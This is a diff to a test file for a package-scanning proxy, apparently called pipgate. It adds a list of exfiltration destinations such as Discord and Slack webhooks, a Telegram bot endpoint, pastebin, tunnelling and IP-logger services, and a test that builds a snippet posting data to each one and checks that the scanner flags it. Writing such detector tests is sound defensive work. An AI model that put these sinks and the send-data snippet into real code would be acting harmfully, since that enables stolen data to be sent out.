@@ -7,7 +7,7 @@ import random
 
 import pytest
 
-from pipgate.proxy.scan import triage
+from pipgate.proxy.scan import indicators, triage
 
 TOKENS = sorted({token for tokens, _ in triage._TRIAGE for token in tokens})
 
@@ -60,3 +60,31 @@ def test_gate_agrees_with_substring_tests_on_random_mixtures() -> None:
 )
 def test_worth_parsing(source: bytes, worth: bool) -> None:
     assert triage.worth_parsing(source) is worth
+
+
+#: One address of each sink category (``indicators.SINKS``, ``IP_LOGGER``): triage's
+#: substrings are kept by hand beside the patterns, and must let each through.
+SINK_EXAMPLES = [
+    "https://discord.com/api/webhooks/123456789012345678/abcdef",
+    "https://api.telegram.org/bot123456789:AAabc/sendMessage",
+    "https://hooks.slack.com/services/T000/B000/XXXX",
+    "https://pastebin.com/raw/abcd1234",
+    "https://f004.backblazeb2.com/file/bucket/u.exe",
+    "https://script.google.com/macros/s/abc/exec",
+    "https://x1y2z3.requestrepo.com/",
+    "tcp://a1b2.a.pinggy.link:40123",
+    "https://quiet-api.someone.workers.dev/c",
+    "https://quiet.eu-gb.mybluemix.appdomain.cloud/c",
+    "quietbox.duckdns.org",
+    "https://iplogger.org/abc",
+]
+
+
+@pytest.mark.parametrize("address", SINK_EXAMPLES)
+def test_a_module_that_sends_to_a_sink_is_parsed(address: str) -> None:
+    assert any(
+        i.search(address, address.lower())
+        for i in (*indicators.SINKS.values(), indicators.IP_LOGGER)
+    )
+    module = f"import requests\ndef send(data):\n    requests.post({address!r}, data=data)\n"
+    assert triage.worth_parsing(module.encode())
